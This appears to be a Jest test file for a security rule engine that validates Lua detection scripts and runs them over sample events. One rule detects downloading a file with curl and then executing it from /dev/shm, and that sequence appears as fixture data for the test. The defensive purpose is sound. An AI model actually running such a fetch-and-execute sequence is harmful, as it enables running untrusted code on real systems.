// ValidateRules and TestRules with Lua scripts: a script is compiled in the sandbox without being
// loaded, its diagnostics name file and line; TestRules runs it over the sample events in order
// with one state, so a sequence is seen as one, and reports a fault as a diagnostic naming the
// event. Without a Lua engine a Lua source is refused, not ignored.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DiagnosticSeverity, RuleFormat, type RuleSource } from '@omega/proto';
import { validateRuleSources } from '../rule-catalog';
import { RuleTester } from '../test-rules';
import { processLaunch } from '../testing/spec-events';
import { DEFAULT_LUA_LIMITS } from './lua-rule-script';
import type { LuaRuleEngine } from './lua-rule-set';
import { LuaRuntime } from './lua-sandbox';

const EXAMPLE = readFileSync(
  join(__dirname, '..', '..', 'lua-rules', 'download-then-execute.lua'),
  'utf8',
);
const T0 = 1_700_000_000_000_000_000n;
let engine: LuaRuleEngine;

beforeAll(async () => {
  engine = { runtime: await LuaRuntime.load(), limits: DEFAULT_LUA_LIMITS };
});

const lua = (name: string, content: string): RuleSource => ({
  name,
  format: RuleFormat.RULE_FORMAT_LUA,
  content,
});

describe('ValidateRules', () => {
  it('describes a valid script as it would load', () => {
    const res = validateRuleSources([lua('dte.lua', EXAMPLE)], engine);
    expect(res.valid).toBe(true);
    expect(res.rules).toEqual([
      expect.objectContaining({
        id: 'lua:download-then-execute',
        format: RuleFormat.RULE_FORMAT_LUA,
        sourceName: 'dte.lua',
        attackTechniqueIds: ['T1105', 'T1059.004'],
      }),
    ]);
  });

  it('names the file and line of a syntax error, and a top-level loop stopped by the budget', () => {
    const res = validateRuleSources(
      [
        lua('broken.lua', "rule = { id = 'b', title = 'B' }\n\nfunction on_event(\n"),
        lua('spins.lua', "rule = { id = 's', title = 'S' }\nwhile true do end\n"),
      ],
      engine,
    );
    expect(res.valid).toBe(false);
    expect(res.diagnostics).toEqual([
      expect.objectContaining({
        source: 'broken.lua',
        line: 4,
        code: 'lua-error',
        path: 'sources[0]',
      }),
      expect.objectContaining({ source: 'spins.lua', code: 'lua-budget', path: 'sources[1]' }),
    ]);
  });

  it('refuses a Lua source when the service runs no Lua engine', () => {
    const res = validateRuleSources([lua('dte.lua', EXAMPLE)]);
    expect(res.valid).toBe(false);
    expect(res.diagnostics[0]).toMatchObject({
      severity: DiagnosticSeverity.DIAGNOSTIC_SEVERITY_ERROR,
      code: 'unsupported-format',
    });
  });
});

describe('TestRules', () => {
  it('runs a script over the sample events in order, with one state for the call', async () => {
    const events = [
      processLaunch(
        { Image: '/usr/bin/curl', CommandLine: 'curl -O http://h/p' },
        { id: 'a', timeNs: T0 },
      ),
      processLaunch({ Image: '/dev/shm/p' }, { id: 'b', timeNs: T0 + 3_000_000_000n }),
    ];
    const res = await new RuleTester({}, engine).test({
      sources: [lua('dte.lua', EXAMPLE)],
      events,
    });
    expect(res.valid).toBe(true);
    expect(res.matches).toEqual([
      expect.objectContaining({
        ruleId: 'lua:download-then-execute',
        eventIndex: 1,
        eventId: 'b',
        reasons: [
          expect.objectContaining({ feature: 'download', observedValue: 'curl -O http://h/p' }),
          expect.objectContaining({ feature: 'download_event', observedValue: 'a' }),
          expect.objectContaining({ feature: 'executed', observedValue: '/dev/shm/p' }),
        ],
      }),
    ]);
    expect(res.matches[0]!.explanation).toContain(
      'pod:shop/cart-1 ran /dev/shm/p 3 s after downloading with "curl -O http://h/p"',
    );
  });

  it('reports a fault as a diagnostic naming the event', async () => {
    const res = await new RuleTester({}, engine).test({
      sources: [
        lua(
          'spins.lua',
          "rule = { id = 's', title = 'S' }\nfunction on_event(e, s) if e.id == 'x' then while true do end end end\n",
        ),
      ],
      events: [
        processLaunch({ Image: '/bin/ls' }, { id: 'ok' }),
        processLaunch({ Image: '/bin/ls' }, { id: 'x' }),
      ],
    });
    expect(res.matches).toEqual([]);
    expect(res.diagnostics).toEqual([
      expect.objectContaining({ source: 'spins.lua', path: 'events[1]', code: 'lua-budget' }),
    ]);
  });
});

describe('bounds', () => {
  it('refuses more than 64 Lua scripts in one request before compiling any', () => {
    const sources = Array.from({ length: 65 }, (_, i) =>
      lua(`s${i}.lua`, `rule = { id = 's${i}', title = 'S' }\nfunction on_event() end\n`),
    );
    const res = validateRuleSources(sources, engine);
    expect(res.valid).toBe(false);
    expect(res.rules).toEqual([]);
    expect(res.diagnostics).toEqual([
      expect.objectContaining({
        code: 'too-many',
        message: 'sources: 65 Lua scripts, at most 64 at once',
      }),
    ]);
  });
});

describe('TestRules bounds', () => {
  it('refuses more Lua scripts than maxLuaScripts, naming the limit', async () => {
    const sources = Array.from({ length: 3 }, (_, i) =>
      lua(`s${i}.lua`, `rule = { id = 's${i}', title = 'S' }\nfunction on_event() end\n`),
    );
    await expect(
      new RuleTester({ maxLuaScripts: 2 }, engine).test({ sources, events: [] }),
    ).rejects.toThrow('TestRules: sources: 3 Lua scripts, at most 2 per call');
  });
});
